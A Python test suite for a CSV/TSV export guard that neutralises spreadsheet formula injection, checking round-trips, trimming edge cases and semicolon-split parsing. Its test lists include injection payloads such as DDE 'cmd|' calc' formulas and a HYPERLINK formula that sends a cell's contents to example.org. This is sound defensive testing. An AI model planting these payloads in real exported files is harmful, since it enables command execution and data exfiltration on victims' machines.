"""Texts that a spreadsheet would run, made harmless, and what they were given back."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tables import written

from smclassify.exports import open_table
from smclassify.exports.table import Problems
from smclassify.exports.writing.encoders import CsvEncoder
from smclassify.exports.writing.guard import guard, is_risky, unguard

RUN = "=+-@＝＋－＠"
WILD = st.text(st.sampled_from(f"{RUN}'\"; ,\t\r\n\0\u3000\ufeffa1%)") | st.characters())


@given(WILD)
@example("'")
@example("'-5")
@example("''=1;'\"=2\n''@x")
@example("\t=1")
@example(" ;=1")
@example("'\n'=")
def test_every_text_comes_back(text):
    assert unguard(guard(text)) == text


@given(WILD, WILD)
def test_different_texts_stay_different(one, other):
    assert (guard(one) == guard(other)) == (one == other)


@given(WILD)
def test_nothing_guarded_begins_as_a_formula_however_a_program_trims_it(text):
    shown = guard(text)
    if shown == text and text[:1] in ("+", "-"):
        assert not is_risky(text)  # a plain number
        return
    bare = shown.strip('" \0\u3000\ufeff')
    assert not bare.startswith(tuple(RUN))
    assert not shown.startswith(("\t", "\r", "\n"))


@given(st.lists(WILD, min_size=1, max_size=4))
def test_no_program_that_splits_at_semicolons_finds_a_formula(cells):
    # Excel with French settings: a quote inside of a cell is a character like any other, so that
    # a line break ends the row and a semicolon the cell, whatever stands around them.
    data = CsvEncoder(["a"], Problems(), bom=False, guarded=True).rows([["1", *cells]], 1)
    row = data.decode().removeprefix("1,").removesuffix("\r\n")
    for line in row.replace("\r", "\n").replace("\t", "\n").split("\n")[1:]:
        for cell in line.split(";"):
            assert not cell.strip('" ').startswith(tuple(RUN))
    for cell in row.split(";")[1:]:
        assert not cell.lstrip('" ').startswith(tuple(RUN))


RISKY = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+82 10-1234-5678",
    "-2+3+cmd|' /C calc'!D2",
    "- great service",
    "@SUM(1)",
    "@brand where is my order?",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u3000=1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    '"=1+1"',
    "\t=1+1",
    "\tindented",
    "\r=1+1",
    "\n=1+1",
    "\nhello",
    "'=1+1",
    "'''@x",
    "-",
    "-5 apples",
    "-5-5",
    " -5",
    "+1\n",
]


@pytest.mark.parametrize("text", RISKY)
def test_what_would_be_run_or_taken_for_guarded_gets_an_apostrophe(text):
    assert is_risky(text)
    assert guard(text).startswith("'" + text[0])
    assert unguard(guard(text)) == text


HARMLESS = ["", "-5", "+5", "-5 %", "-1,234.50", "+12.5%", "-5\xa0%", "-1e-05", "-.5", "5-3", "a=b",
            "it's", "'tis the season", "me@example.org", "2024-05-01", "#tag", "well; fine\nyes",
            "5,- €", "a, @b", "37.5,-122.4", "좋아요 =)", "; and", "x\n\ny"]  # fmt: skip


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_with_a_sign_and_ordinary_texts_stay_as_they_are(text):
    assert (guard(text), unguard(text)) == (text, text)
    assert not is_risky(text)


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("Bonjour;=cmd|'/c calc'!A1", "Bonjour;'=cmd|'/c calc'!A1"),
        ('Bonjour;"=1+1"', 'Bonjour;"\'=1+1"'),
        ("Hello\n=1+1", "Hello\n'=1+1"),
        ("Hello\r\n =1+1", "Hello\r\n '=1+1"),
        ("a\t@SUM(1)", "a\t'@SUM(1)"),
        ("a;'=1", "a;''=1"),
        ("=1;=2", "'=1;'=2"),
        ("-5;-5", "'-5;'-5"),
    ],
)
def test_what_would_begin_a_cell_in_the_middle_is_guarded_there(text, guarded):
    assert guard(text) == guarded
    assert unguard(guarded) == text


@pytest.mark.parametrize("text", ["Merci ;-) à bientôt", "Dommage ;-(", "a;+"])
def test_a_wink_is_no_formula(text):
    assert guard(text) == unguard(text) == text


@pytest.mark.parametrize("piece", ["; ", ";'", '\n"', "'", " ", ";", "\t"])
def test_long_runs_take_no_more_than_one_pass(piece):
    text = piece * 100_000  # in a pass for each piece, minutes
    assert unguard(guard(text + "=")) == text + "="
    assert unguard(guard(text + "x")) == text + "x"


# --- in files ---------------------------------------------------------------------------


@pytest.mark.parametrize("ending", ["csv", "tsv"])
def test_header_and_cells_of_guarded_files_come_back(tmp_path, ending):
    path = tmp_path / f"out.{ending}"
    columns, row = ["=id", "text"], ["@x", "a;=1\n-b"]
    written(path, columns, [row], guarded=True)
    with open_table(path) as table:
        (found,) = table.sample()
    assert table.columns == ["'=id", "text"]
    assert found.cells == ["'@x", "a;'=1\n'-b"]
    assert [unguard(cell) for cell in [*table.columns, *found.cells]] == [*columns, *row]


@pytest.mark.parametrize("format", ["jsonl", "parquet"])
def test_formats_that_no_spreadsheet_runs_are_not_guarded(tmp_path, format):
    path = tmp_path / f"out.{format}"
    written(path, ["=a"], [["=1+1"]], guarded=True)
    with open_table(path) as table:
        assert (table.columns, [row.cells for row in table.sample()]) == (["=a"], [["=1+1"]])


def test_numbers_are_numbers_and_other_cells_are_guarded_as_they_are_written():
    encoder = CsvEncoder(["a"], Problems(), bom=False, guarded=True)
    data = encoder.rows([[-5, -0.5, True, None, ["=1"], "=1"]], 1).decode()
    assert list(csv.reader(io.StringIO(data))) == [["-5", "-0.5", "true", "", '["=1"]', "'=1"]]
